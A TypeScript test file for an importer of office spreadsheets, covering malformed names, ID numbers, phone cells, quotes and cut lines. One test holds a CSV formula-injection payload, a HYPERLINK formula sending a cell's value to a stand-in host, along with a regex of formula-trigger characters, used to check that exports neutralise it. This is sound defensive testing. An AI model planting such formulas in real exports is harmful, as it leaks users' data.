import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { refusedAsCsv } from '../../src/import/refused-rows.ts';
import { checkPath, checkRow } from './checked.ts';
import type { FileKind } from './synthetic-rows.ts';

/** Small files as offices hand them over, each of a kind of defect; what is right of each is said here. */
const folder = join(import.meta.dirname, 'fixtures/offices');
const file = (name: string) => join(folder, name);
const register = (name: string, month = '2007-02') => checkPath('public-security', file(name), month);
const codes = (rows: readonly { code: string }[]) => rows.map(({ code }) => code);

describe('a file of an office', () => {
  it('two telephones in a cell: the first is taken, the text kept', async () => {
    const { accepted } = await register('04b-two-phones-2007-02.csv');
    expect(accepted).toMatchObject([
      {
        mobile_phone: '13800001001',
        as_written: '{"联系电话":"13800001001/13800001002"}',
        quality_flags: '{}',
      },
    ]);
  });
  it('two stray quotation marks: three persons are three rows', async () => {
    const { accepted, tally } = await register('05-quotes-swallow-a-person-2007-02.csv');
    expect(accepted.map(({ name, citizen_id_number: id }) => [name, id])).toEqual([
      ['李甲', '529999197204011012'],
      ['李乙', '529999197204011039'],
      ['王芳', '529999197204011055'],
    ]);
    expect(accepted.map(({ hukou_address }) => hukou_address).slice(0, 2)).toEqual([
      '安徽省示例县',
      '示例镇',
    ]);
    expect(tally.notices).toEqual({ STRAY_QUOTES: 2 });
  });
  it('formulas: no exported cell begins one, and the file that comes back says what it said', async () => {
    const { refused } = await register('06-formulas-2007-02.csv');
    const text = readFileSync(file('06-formulas-2007-02.csv')).toString('latin1');
    expect(text).toMatch(/,"=HYPER|,-2\+3/);
    const headings = new TextDecoder('gb18030').decode(readFileSync(file('06-formulas-2007-02.csv'))).split('\r\n')[0]!.split(','); // biome-ignore format: a line
    const csv = refusedAsCsv({ fileName: 'x', month: '2007-02', headings, rows: refused });
    for (const line of csv.slice(1).split('\r\n')) expect(line).not.toMatch(/(?:^|,)"?[=+\-@＝＋－＠\t]/);
    expect(csv).toContain(`"'=HYPERLINK(""http://example.invalid/?""&E2,""x"")"`);
  });
  it('placeholders: go back', async () => {
    expect(codes((await register('07-placeholder-number-2007-02.csv')).refused)).toEqual([
      'ID_PLACEHOLDER',
      'ID_PLACEHOLDER',
    ]);
  });
  it('names: one spelling, lost characters flagged, words for something else refused', async () => {
    const { accepted, refused } = await register('08-names-2007-02.csv');
    expect(accepted.map(({ name }) => name)).toEqual([
      ...Array(3).fill('阿卜杜\u00b7热合曼'),
      ...Array(3).fill('王芳'),
      '王?',
      '王\ue815',
    ]);
    expect(accepted.map(({ quality_flags: flags }) => flags)).toEqual([
      ...Array(6).fill('{}'),
      ...Array(2).fill('{NAME_INCOMPLETE}'),
    ]);
    expect(refused.map(({ line, code, column }) => [line, code, column])).toEqual([
      [10, 'NAME_INVALID', '姓名'],
      [11, 'NAME_INVALID', '姓名'],
      [12, 'NAME_INVALID', '姓名'],
    ]);
  });
  it.each([
    ['01-one-number-two-persons-2007-02.csv', 2],
    ['09-ascii-first-line-2007-02.csv', 1],
    ['10-trailing-empty-column-2007-02.csv', 2],
    ['12-fractions-of-a-second-2007-02.csv', 2],
    ['15-ethnicity-by-code-2007-02.csv', 1],
    ['17-dos-end-of-file-2007-02.csv', 1],
    ['18-leading-apostrophe-2007-02.csv', 3],
  ])('%s: all %i rows are read', async (name, rows) => {
    const { tally, refused } = await register(name);
    expect({ refused, rows: tally.rows, accepted: tally.accepted }).toEqual({
      refused: [],
      rows,
      accepted: rows,
    });
  });
  it('an empty cell left out at the end is empty', async () => {
    const labour = file('11-excel-left-out-last-empty-cell-2007-02.csv');
    const { accepted } = await checkPath('labour', labour, '2007-02');
    expect(accepted).toMatchObject([
      { insured: 'no', month: null },
      { insured: 'no', month: null },
    ]);
  });
  it('cut in its last cell: the row before stands, the last goes back and the file says so', async () => {
    const { accepted, refused, tally } = await checkPath(
      'housing',
      file('13-cut-in-the-last-cell-2007-02.csv'),
      '2007-02',
    );
    expect(accepted).toMatchObject([{ contract_no: 'HL200702000700', filing_status: 'NOT_FILED' }]);
    expect(codes(refused)).toEqual(['LINE_CUT']);
    expect(tally.notices).toEqual({ LAST_LINE_CUT: 1 });
  });
  it('a cell of 70,000 characters: its row goes back for that, the other stands', async () => {
    const { accepted, refused } = await register('14-long-cell-2007-02.csv');
    expect(accepted).toHaveLength(1);
    expect(refused).toMatchObject([{ line: 3, code: 'TEXT_TOO_LONG', column: '户籍地址' }]);
  });
  it('words in addresses: the same door, and a floor is no room', async () => {
    const { accepted } = await register('16-address-words-2007-02.csv');
    expect(accepted.map(({ lane, building, room }) => [lane, building, room])).toEqual([
      ['8', '27', null],
      ['8', '27', null],
      ['8', '27', '603'],
      ['8', '27', '603'],
      ['8', '27', '603'],
      [null, '27', '603'],
    ]);
    expect(accepted.slice(0, 2).map(({ as_written }) => as_written)).toEqual([
      '{"室":"6楼"}',
      '{"室":"底楼"}',
    ]);
  });
});

it('the same kinds are read the same way in every department', async () => {
  const kinds: readonly (readonly [FileKind, string])[] = [
    ['public-security', '姓名'],
    ['housing', '承租人'],
    ['labour', '姓名'],
  ];
  const number = '349999198506120039';
  for (const [kind, name] of kinds) {
    for (const text of [
      `'${number}`,
      `="${number}"`,
      `=${number}`,
      `\u202d${number}\u202c`,
      ` ${number}\u00a0`,
      `'="${number}"`,
    ])
      expect((await checkRow(kind, { 公民身份号码: text })).values, `${kind} ${text}`).toMatchObject({
        citizen_id_number: number,
      });
    for (const placeholder of ['111111111111111', '000000000000000000', '９９９９９９９９９９９９９９９'])
      expect((await checkRow(kind, { 公民身份号码: placeholder })).code, kind).toBe('ID_PLACEHOLDER');
    for (const word of ['合计', '#REF!', 'NULL', '-', '同上', '13800001111'])
      expect(await checkRow(kind, { [name]: word }), `${kind} ${word}`).toMatchObject({
        code: 'NAME_INVALID',
        column: name,
      });
    expect((await checkRow(kind, { [name]: '王□' })).tally.flags, kind).toMatchObject({ NAME_INCOMPLETE: 1 });
    const spelled = (await checkRow(kind, { [name]: '阿卜杜 • 热合曼\u200b' })).values!;
    expect(Object.values(spelled), kind).toContain('阿卜杜·热合曼');
  }
});
